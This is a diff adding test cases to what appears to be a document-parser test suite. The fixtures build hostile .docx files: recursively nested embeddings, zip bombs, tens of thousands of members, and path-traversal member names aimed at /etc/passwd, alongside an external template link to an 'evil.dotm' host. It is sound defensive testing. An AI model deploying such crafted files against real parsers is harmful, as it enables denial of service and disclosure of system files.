@@ -68,6 +68,13 @@ def epub(chapter, head="", navigation="", chapter_member=None, spine=1):
                         chapter_member or zips.deflated(b"c.xhtml", chapter.encode())])
 
 
+def _embedded_in_embedded(depth):
+    inner = docx(paragraph(GOOD))
+    for _ in range(depth):
+        inner = docx(paragraph(GOOD), more=(zips.stored(b"word/embeddings/inner.docx", inner),))
+    return inner
+
+
 def _office_cases():
     run = f"<w:p><w:r><w:t>{'a' * 900}</w:t></w:r></w:p>\n".encode()
     filler = (run * (MIB // len(run) + 1))[:len(run) * (MIB // len(run))]
@@ -75,6 +82,10 @@ def _office_cases():
     template = _relations(("attachedTemplate", "http://192.0.2.1/evil.dotm", ' TargetMode="External"'), ("image", "file:///etc/passwd", ' TargetMode="External"'),
                           ("header", "../../../../../../etc/passwd", ""))
     return [
+        case("embedded_in_itself.docx", lambda: _embedded_in_embedded(20), words=GOOD),
+        case("embedded_bomb.docx", lambda: docx(paragraph(GOOD), more=(zips.repeated(b"word/embeddings/a.docx", bytes(MIB), 2000),)), "bomb", GOOD),
+        case("embedded_many.docx", lambda: docx(paragraph(GOOD), more=[zips.deflated(b"word/embeddings/%d.txt" % n, b"x") for n in range(25_000)]), "members_limit", GOOD),
+        case("embedded_steps.docx", lambda: docx(paragraph(GOOD), more=(zips.deflated(b"word/embeddings/../../../../etc/passwd", b"marigold"),)), words=GOOD + " marigold"),
         case("bomb.docx", lambda: docx("", main=zips.repeated(b"word/document.xml", filler, 3000, head)), "expanded_limit text_limit"),
         case("spaces.docx", lambda: docx("", main=zips.repeated(b"word/document.xml", b" " * MIB, 2000, head)), "expanded_limit text_limit"),
         case("elements.docx", lambda: docx("", main=zips.repeated(b"word/document.xml", b"<w:p/>" * 170_000, 400, head)), "expanded_limit text_limit"),
